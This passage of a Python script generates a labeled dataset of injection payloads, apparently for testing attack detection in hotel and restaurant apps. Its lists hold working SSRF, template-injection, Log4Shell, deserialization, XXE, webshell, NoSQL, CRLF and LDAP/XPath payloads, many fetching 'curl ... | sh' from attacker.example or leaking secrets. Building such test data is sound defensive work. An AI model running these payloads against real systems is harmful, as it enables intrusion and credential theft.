    ("order-webhook-url-consul-kv", "http://localhost:8500/v1/kv/?recurse"),
    ("menu-image-url-tomcat-manager", "http://127.0.0.1:8080/manager/html"),
    ("menu-image-url-imds+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("menu-image-url-imds+hex-ip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("menu-image-url-imds+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("menu-image-url-imds+mixed-dotted-ip", "http://169.254.43518/latest/meta-data/"),
    ("supplier-feed-url-imds+ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("order-webhook-url-ipv6-loopback", "http://[::1]:6379/"),
    ("order-webhook-url-short-loopback", "http://127.1/admin"),
    ("order-webhook-url-zero-host", "http://0/server-status"),
    ("order-webhook-url-any-address", "http://0.0.0.0:5000/internal/orders"),
    ("menu-image-url-dns-rebinding", "http://a9fea9fe.rebind.attacker.example/latest/meta-data/"),
    ("supplier-feed-url-userinfo-confusion", "http://attacker.example@127.0.0.1:8080/admin"),
    ("supplier-feed-url-fragment-confusion", "http://127.0.0.1#@supplier.example/catalog.csv"),
    ("menu-image-url-open-redirect-chain", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("plain-file-scheme", "file:///etc/passwd"),
    ("logo-url-file-scheme-windows", "file:///c:/windows/win.ini"),
    ("order-webhook-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("order-webhook-url-gopher-memcached", "gopher://127.0.0.1:11211/_stats%0d%0a"),
    ("supplier-feed-url-jar-scheme", "jar:http://attacker.example/menu.zip!/menu.csv"),
    ("supplier-feed-url-netdoc-scheme", "netdoc:///etc/passwd"),
    ("menu-image-url-imds+enclosed-alnum", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
    ("order-webhook-url-loopback+ipv6-mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("supplier-feed-url-backslash-confusion", "http://127.0.0.1:6379\\@supplier.example/"),
    ("order-webhook-url-internal-db", "http://pos-db.internal:5432/"),
    ("ical-feed-url-raw-printer", "http://kitchen-printer.local:9100/"),
    ("order-webhook-url-internal-admin", "http://admin.internal/reset?user=gm&new=Fake-Placeholder-1"),
    ("supplier-feed-url-etcd", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("logo-url-ecs-task-metadata", "http://169.254.170.2/v2/metadata"),
    ("menu-image-url-aws-hostname-alias", "http://instance-data/latest/meta-data/"),
    ("menu-image-url-loopback+octal-ip", "http://0177.0.0.1/"),
    ("menu-image-url-loopback+hex-ip", "http://0x7f.0x0.0x0.0x1:8000/"),
    ("menu-image-url-loopback+decimal-ip", "http://2130706433:8000/admin"),
    ("menu-image-url-host+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("order-webhook-url-gcp-recursive", "http://metadata/computeMetadata/v1/?recursive=true&alt=text"),
    ("order-webhook-url-spring-actuator", "http://localhost:8080/actuator/env"),
    ("review-photo-url-unc-smb", "\\\\203.0.113.5\\share\\pho.jpg"),
    ("plain-imds", "http://169.254.169.254/"),
    ("plain-localhost-admin", "http://localhost/admin"),
    ("plain-loopback", "http://127.0.0.1/"),
]

SSRF_ALT_IPS = [("10.0.0.5", "/api/internal/refunds"), ("192.168.10.20", "/backoffice/"),
                ("172.17.0.1", ":2375/version"), ("10.10.1.4", ":9200/_search?q=*")]


def _ip_int(ip):
    a, b, c, d = (int(x) for x in ip.split("."))
    return (a << 24) | (b << 16) | (c << 8) | d


def gen_ssrf_altip(rng):
    ip, path = rng.choice(SSRF_ALT_IPS)
    form = rng.randrange(4)
    if form == 0:
        host, enc = str(_ip_int(ip)), "decimal-ip"
    elif form == 1:
        host, enc = hex(_ip_int(ip)), "hex-ip"
    elif form == 2:
        host, enc = ".".join("0" + format(int(x), "o") for x in ip.split(".")), "octal-ip"
    else:
        n = _ip_int(ip)
        host, enc = f"[::ffff:{n >> 16:x}:{n & 0xffff:x}]", "ipv6-mapped"
    return f"order-webhook-url-internal+{enc}", f"http://{host}{path}"


# ---------------------------------------------------------------------------
# code: SSTI, expression languages, deserialization, XXE, Log4Shell lookups,
#       prototype pollution, CSV formula, eval sinks
# ---------------------------------------------------------------------------
HANDLEBARS_CHAIN = """{{#with "s" as |string|}}
  {{#with "e"}}
    {{#with split as |conslist|}}
      {{this.pop}}
      {{this.push (lookup string.sub "constructor")}}
      {{this.pop}}
      {{#with string.split as |codelist|}}
        {{this.pop}}
        {{this.push "return require('child_process').execSync('id');"}}
        {{this.pop}}
        {{#each conslist}}
          {{#with (string.sub.apply 0 codelist)}}
            {{this}}
          {{/with}}
        {{/each}}
      {{/with}}
    {{/with}}
  {{/with}}
{{/with}}"""

CODE = [
    ("receipt-footer-jinja2-cycler-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("receipt-footer-jinja2-self-builtins", "Thanks {{ guest_name }}! {{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("menu-desc-jinja2-lipsum", "{{ lipsum.__globals__['os'].popen('curl -s attacker.example/j|sh').read() }}"),
    ("receipt-footer-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("email-template-flask-config-leak", "{{ config.items() }}"),
    ("receipt-footer-jinja2-loop-warning", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("receipt-footer-jinja2-attr-filter-hex-escapes", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}"),
    ("email-template-twig-filter-system", "{{['id']|filter('system')}}"),
    ("email-template-twig1-undefined-filter", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("menu-desc-twig-map-system", "Today's soup: {{['cat /etc/passwd']|map('system')|join}}"),
    ("menu-template-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("email-template-velocity-runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("plain-erb-backticks", "<%= `id` %>"),
    ("menu-desc-erb-system", "Chef's pick <%= system(\"curl -s http://attacker.example/e | sh\") %>"),
    ("menu-desc-thymeleaf-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("kds-theme-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwn\")}__::.x"),
    ("booking-form-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("menu-desc-el-reflection-exec", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("receipt-footer-mako-module-os", "${self.module.cache.util.os.system('id')}"),
    ("email-template-smarty-system", "{system('id')}"),
    ("email-template-handlebars-constructor-chain", HANDLEBARS_CHAIN),
    ("menu-desc-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("receipt-footer-ejs-exec", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("menu-desc-nunjucks-range-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("receipt-footer-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("email-template-django-debug", "{% debug %}"),
    ("receipt-footer-razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("recipe-scale-python-eval", "2.5*__import__('os').system('id')"),
    ("price-calc-node-eval", "require('child_process').execSync('curl -s attacker.example/n|sh')"),
    ("menu-photo-upload-php-webshell", "<?php system($_GET['cmd']); ?>"),
    ("price-calc-php-eval", "14.50; system('id');"),
    ("guest-note-ruby-interpolation", "#{`id`}"),
    ("report-formula-groovy-execute", "\"id\".execute().text"),
    ("receipt-footer-python-format-string", "{guest.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("guest-name-log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("order-note-log4shell-dns", "no onions ${jndi:dns://log4j.attacker.example/x}"),
    ("user-agent-log4shell-lower", "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://203.0.113.30/o}"),
    ("guest-name-log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/p}"),
    ("reservation-note-log4shell-env-exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/k}"),
    ("guest-name-log4shell-env-default", "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//attacker.example/z}"),
    ("pos-cache-pickle-protocol0", "cos\nsystem\n(S'id'\ntR."),
    ("pos-session-pickle+base64", "Y3Bvc2l4CnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly9hdHRhY2tlci5leGFtcGxlL3B8c2gnCnRSLg=="),
    ("menu-import-yaml-python-apply", "!!python/object/apply:os.system [\"curl -s http://attacker.example/y | sh\"]"),
    ("menu-import-snakeyaml-script-engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("supplier-feed-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://attacker.example:1389/Exploit\", \"autoCommit\": true}]"),
    ("order-json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.32:1099/obj\",\"autoCommit\":true}"),
    ("booking-json-dotnet-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("receipt-cookie-php-object-injection", "O:14:\"ReceiptPrinter\":1:{s:8:\"template\";s:11:\"/etc/passwd\";}"),
    ("cart-cookie-php-object-write", "O:9:\"CacheFile\":2:{s:4:\"path\";s:25:\"/var/www/html/menu/sh.php\";s:4:\"data\";s:28:\"<?php system($_GET['c']); ?>\";}"),
    ("profile-cookie-node-serialize-iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){console.log(o)})}()\"}"),
    ("order-xml-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><order><note>&xxe;</note></order>"),
    ("invoice-xml-xxe-oob-parameter", "<?xml version=\"1.0\"?><!DOCTYPE invoice [<!ENTITY % ext SYSTEM \"http://attacker.example/inv.dtd\"> %ext;]><invoice><total>1</total></invoice>"),
    ("menu-xml-xxe-ssrf-imds", "<!DOCTYPE menu [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><menu><item>&m;</item></menu>"),
    ("menu-xml-xinclude-file", "<menu xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></menu>"),
    ("menu-photo-svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"0\" y=\"20\">&h;</text></svg>"),
    ("guest-profile-json-proto-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("guest-profile-json-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"manager\"}}}"),
    ("cart-query-proto-pollution", "__proto__[discountPercent]=100"),
    ("guest-profile-proto-pollution-node-options", "{\"guest\":{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}}"),
    ("cart-query-proto-pollution-ejs-gadget", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("guest-export-csv-dde", "=cmd|' /C calc'!A0"),
    ("guest-export-csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/l?d=\"&A2&B2,\"View invoice\")"),
    ("review-export-csv-at-dde", "@SUM(1+9)*cmd|' /C powershell -nop -w hidden -c iwr attacker.example/x'!A0"),
    ("guest-export-csv-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/x?v=\",A1:C1),\"//a\")"),
    ("supplier-export-csv-webservice", "=WEBSERVICE(\"http://attacker.example/w?\"&ENCODEURL(A1))"),
    ("menu-desc-ssi-exec", "<!--#exec cmd=\"id\" -->"),
    ("plain-jinja2-config", "{{config}}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-csv-formula", "=1+1+cmd|' /C calc'!A1"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    ("plain-proto-pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
]

CODE_ENCODE = [
    ("receipt-footer-jinja2-popen+urlenc", "{{ cycler.__init__.__globals__.os.popen('whoami').read() }}", "url"),
    ("guest-name-log4shell+urlenc", "${jndi:ldap://203.0.113.33:389/x}", "url"),
    ("guest-profile-proto-pollution+unicode-escape", "{\"__proto__\":{\"isAdmin\":true}}", "jsonu"),
]
CODE_T_GREETINGS = ["Thank you for dining with us, ", "Welcome back to the Grand, ", "Your table is ready, ",
                    "Enjoy your stay, "]
CODE_T_PAYLOADS = [
    ("email-template-jinja2-popen", "{{ cycler.__init__.__globals__.os.popen('curl -s attacker.example/g|sh').read() }}"),
    ("email-template-freemarker-execute", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ("email-template-log4shell", "${jndi:ldap://attacker.example/greet}"),
]


def gen_code_template(rng):
    cls, payload = rng.choice(CODE_T_PAYLOADS)
    return cls, rng.choice(CODE_T_GREETINGS) + payload + "!"


# ---------------------------------------------------------------------------
# nosqli
# ---------------------------------------------------------------------------
NOSQLI = [
    ("booking-lookup-json-ne", "{\"confirmation\": {\"$ne\": null}, \"last_name\": {\"$ne\": null}}"),
    ("staff-login-json-gt", "{\"username\": \"manager\", \"pin\": {\"$gt\": \"\"}}"),
    ("booking-lookup-json-regex-prefix", "{\"confirmation\": {\"$regex\": \"^R-5\"}}"),
    ("plain-regex-match-all", "{\"$regex\": \".*\", \"$options\": \"si\"}"),
    ("staff-login-json-nin", "{\"username\": {\"$nin\": [\"guest\"]}, \"pin\": {\"$nin\": [\"0000\"]}}"),
    ("loyalty-lookup-json-exists", "{\"card_no\": {\"$exists\": true}}"),
    ("booking-lookup-query-ne", "confirmation[$ne]=x&last_name[$ne]=x"),
    ("staff-login-query-regex", "username=gm&pin[$regex]=^4"),
    ("staff-login-query-gt", "email[$gt]=&password[$gt]="),
    ("room-lookup-json-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("room-where-js-string-return-true", "'; return true; var x='"),
    ("room-where-js-string-or", "1412' || '1'=='1"),
    ("room-where-js-string-dos", "'; while(true){}; var z='"),
    ("booking-lookup-json-expr", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("staff-login-json-or-merge", "{\"$or\": [{\"role\": \"guest\"}, {\"role\": \"admin\"}]}"),
    ("booking-lookup-json-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(5000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("report-pipeline-json-lookup", "[{\"$lookup\": {\"from\": \"staff_users\", \"pipeline\": [], \"as\": \"leak\"}}]"),
    ("staff-login-json-ne-pin", "{\"username\": \"manager\", \"pin\": {\"$ne\": \"0000\"}}"),
    ("staff-login-json-where-regex-timing", "{\"$where\": \"this.pin.match(/^4/) && sleep(3000)\"}"),
    ("guest-search-query-regex-options", "guest[$regex]=^O&guest[$options]=i"),
    ("review-search-json-regex-redos", "{\"notes\": {\"$regex\": \"^(a+)+$\"}}"),
    ("room-js-object-string-or", "1412', $or: [ {}, { 'a': 'a"),
    ("booking-lookup-couchdb-mango", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"name\", \"card_token\"]}"),
    ("loyalty-lookup-json-type-probe", "{\"card_no\": {\"$type\": 2}, \"pin\": {\"$type\": 2}}"),
    ("plain-json-ne", "{\"$ne\": 1}"),
    ("plain-query-gt", "password[$gt]="),
]
NOSQLI_ENCODE = [
    ("booking-lookup-query-ne+urlenc", "confirmation[$ne]=none", "urlbrackets"),
    ("staff-login-query-regex+urlenc", "pin[$regex]=.*", "urlbrackets"),
]

# ---------------------------------------------------------------------------
# crlf: log forging, header / response splitting, mail header injection
# ---------------------------------------------------------------------------
CRLF = [
    ("guest-name-log-forge", "Jane Doe\n2024-05-14 21:03:11 INFO [auth] user=gm action=login result=success ip=10.0.0.5"),
    ("reservation-lookup-log-forge-crlf", "R-55821\r\n[2024-05-14T21:05:00Z] WARN refund approved amount=500.00 by=manager"),
    ("table-number-log-forge+urlenc", "Table 12%0d%0a2024-05-14 22:00:01 INFO void approved by=admin"),
    ("plain-set-cookie+urlenc", "%0d%0aSet-Cookie:%20session=fixated123;%20Path=/"),
    ("return-url-set-cookie", "/menu\r\nSet-Cookie: pos_role=manager; Path=/"),
    ("return-url-response-splitting", "/thanks\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 39\r\n\r\n<script>alert(document.domain)</script>"),
    ("return-url-location-override+urlenc", "/booking%0d%0aLocation:%20https://attacker.example/"),
    ("return-url-utf8-truncation+urlenc", "/menu%E5%98%8A%E5%98%8DSet-Cookie:%20kds_admin=1"),
    ("confirmation-email-to-bcc", "guest@mail.example\r\nBcc: everyone@attacker.example"),
    ("confirmation-subject-bcc", "Reservation confirmed\nBcc: list@attacker.example\nX-Priority: 1"),
    ("confirmation-from-name-body-injection", "Maria\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay your deposit here</a>"),
    ("confirmation-email-smtp-command", "guest@mail.example>\r\nRCPT TO:<victim@mail.example>\r\nDATA\r\nSubject: Free night\r\n\r\nclaim at https://attacker.example\r\n.\r\nQUIT"),
    ("confirmation-email-cc+urlenc", "guest@mail.example%0ACc:spam@attacker.example"),
    ("table-header-forwarded-for", "T12\r\nX-Forwarded-For: 127.0.0.1"),
    ("lang-header-cors-injection", "en\r\nAccess-Control-Allow-Origin: https://attacker.example"),
    ("order-note-kds-log-forge", "no onions\n[KDS] ORDER #99999 COMP 100% approved by GM"),
    ("guest-name-log-ansi-escape", "Room 1412\x1b[2J\x1b[1;1HSYSTEM OK - no alerts"),
    ("return-url-html-body+urlenc", "/r%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("return-url-set-cookie+double-urlenc", "/menu%250d%250aSet-Cookie:%2520admin=1"),
    ("return-url-lf-refresh", "/orders\nRefresh: 0; url=https://attacker.example/"),
    ("guest-name-json-log-injection", "Chen\",\"level\":\"INFO\",\"msg\":\"refund approved\",\"amount\":\"900"),
    ("guest-name-syslog-forge", "O'Neil\n<13>May 14 21:00:00 pos01 sshd[811]: Accepted password for root from 10.0.0.5"),
    ("confirmation-subject-reply-to", "Your table at 8pm\r\nReply-To: billing@attacker.example"),
    ("confirmation-subject-bcc+urlenc", "Reservation for 4%0d%0aBcc:%20harvest@attacker.example"),
    ("confirmation-email-multipart-body", "guest@mail.example\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/html\n\n<p>Please re-enter your card at https://attacker.example/pay</p>\n--x--"),
    ("table-header-transfer-encoding", "T12\r\nTransfer-Encoding: chunked"),
    ("return-url-cr-only-cookie", "/menu\rSet-Cookie: kds=1"),
    ("return-url-accel-redirect+urlenc", "/ok%0aX-Accel-Redirect: /internal/receipts/"),
    ("waitlist-name-access-log-forge", "Kim (2)\r\n127.0.0.1 - - [14/May/2024:21:00:00 +0000] \"GET /admin/refunds HTTP/1.1\" 200 512"),
    ("plain-crlf-set-cookie", "\r\nSet-Cookie: admin=true"),
    ("plain-crlf-header+urlenc", "%0d%0aX-Injected: 1"),
]

# ---------------------------------------------------------------------------
# ldap-xpath
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("staff-directory-ldap-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("staff-directory-ldap-objectclass-or", "gm)(|(objectClass=*)"),
    ("staff-login-ldap-and-true", "admin)(&)"),
    ("staff-login-ldap-password-wildcard", "manager)(userPassword=*"),
    ("staff-directory-ldap-group-or", "*)(|(memberOf=cn=admins,ou=groups,dc=hotel,dc=example)"),
    ("staff-login-ldap-blind-prefix", "gm)(userPassword=a*"),
    ("staff-directory-ldap-phone-enum", "j*)(telephoneNumber=*"),
    ("staff-directory-ldap-description-search", "x*)(|(cn=*)(description=*pin*)"),
    ("staff-directory-ldap+urlenc", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a"),
    ("plain-xpath-quote-tautology", "' or '1'='1"),
    ("loyalty-xpath-numeric-tautology", "' or 1=1 or 'a'='a"),
    ("loyalty-xpath-union-pin", "'] | //member/pin | //x['"),
    ("loyalty-xpath-count-probe", "' or count(//member)>0 or '"),
    ("loyalty-xpath-blind-name", "' or substring(name(/*[1]),1,1)='m' or '"),
    ("loyalty-xpath-blind-length", "' or string-length(//member[1]/pin)=4 or '"),
    ("staff-xpath-contains-password", "x' or contains(//staff[role='gm']/password,'a') or '"),
    ("loyalty-xpath-function-paren", "') or ('1'='1"),
    ("menu-xml-xpath-union-cost", "Pad Thai'] | /menu/item/cost | /a['"),
    ("loyalty-xpath2-doc-oob", "' or doc('http://attacker.example/x.xml') or '"),
    ("room-xpath-attribute-or", "1412' or @vip='true"),
    ("plain-ldap-wildcard", "*)(objectClass=*"),
    ("plain-xpath-or", "x' or 'x'='x"),
]

# ---------------------------------------------------------------------------
# encoders (applied to hand-written payloads above)
# ---------------------------------------------------------------------------


def enc_url(s):
    return quote(s, safe="")


def enc_case(s, rng):
    return "".join(c.upper() if c.isalpha() and rng.random() < 0.5 else c.lower() if c.isalpha() else c for c in s)


def enc_comment(s):
    return s.replace(" ", "/**/")


def enc_json_unicode(s):
    # \\uXXXX-escape every letter/underscore inside JSON strings (keys and values), so the
    # document stays valid JSON and decodes to the same object
    out, in_str = [], False
    for c in s:
        if c == '"':
            in_str = not in_str
            out.append(c)
        elif in_str and (c.isalpha() or c == "_"):
            out.append(f"\\u{ord(c):04x}")
        else:
            out.append(c)
    return "".join(out)


def enc_url_brackets(s):
    return s.replace("[", "%5B").replace("]", "%5D").replace("$", "%24")


def apply_encoding(value, kind, rng):
    if kind == "url":
        return enc_url(value)
    if kind == "url2":
        return enc_url(enc_url(value))
    if kind == "case":
        return enc_case(value, rng)
    if kind == "comment":
        return enc_comment(value)
    if kind == "jsonu":
        return enc_json_unicode(value)
    if kind == "urlbrackets":
        return enc_url_brackets(value)
    raise ValueError(kind)


# (category, literals, encoded bases, template generator, number of template values)
PLAN = [
    ("sqli", SQLI, SQLI_ENCODE, gen_sqli_template, 2),
    ("xss", XSS, XSS_ENCODE, gen_xss_template, 2),
    ("cmdi", CMDI, CMDI_ENCODE, gen_cmdi_template, 4),
    ("traversal", TRAVERSAL, [], gen_traversal_template, 2),
    ("ssrf", SSRF, [], gen_ssrf_altip, 4),
    ("code", CODE, CODE_ENCODE, gen_code_template, 2),
    ("nosqli", NOSQLI, NOSQLI_ENCODE, None, 0),
    ("crlf", CRLF, [], None, 0),
    ("ldap-xpath", LDAP_XPATH, [], None, 0),
]


def main():
    rng = random.Random(SEED)
    seen = set()
    rows = []
    stats = []
    total_literals = 0
    for category, literals, encoded, gen, n_template in PLAN:
        n_before = len(rows)
        for cls, value in literals:
            assert value not in seen, ("duplicate literal", category, value)
            seen.add(value)
            rows.append((category, cls, value))
        n_lit = len(rows) - n_before
        for cls, base, kind in encoded:
            value = apply_encoding(base, kind, rng)
            assert value not in seen, ("duplicate encoded", value)
            seen.add(value)
            rows.append((category, cls, value))
        made, tries = 0, 0
        while made < n_template:
            tries += 1
            assert tries < 1000, category
            cls, value = gen(rng)
            if value in seen:
                continue
            seen.add(value)
            rows.append((category, cls, value))
            made += 1
        stats.append((category, len(rows) - n_before, n_lit))
        total_literals += n_lit

    for category, cls, value in rows:
        assert isinstance(value, str) and value and len(value) <= MAX_LEN, (cls, len(value))

    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, (category, cls, value) in enumerate(rows, 1):
            obj = {"id": f"ha36-{i:05d}", "category": category, "class": cls, "label": "attack", "value": value}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    plain = sum(1 for _, cls, _ in rows if cls.startswith("plain-"))
    encoded_n = sum(1 for _, cls, _ in rows if "+" in cls)
    for category, n, lit in stats:
        print(f"{category:12s} {n:4d}  literals {lit:3d}")
    print(f"{'TOTAL':12s} {len(rows):4d}  literals {total_literals:3d} ({100 * total_literals / len(rows):.0f}%)"
          f"  plain {plain}  encoded {encoded_n}")
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
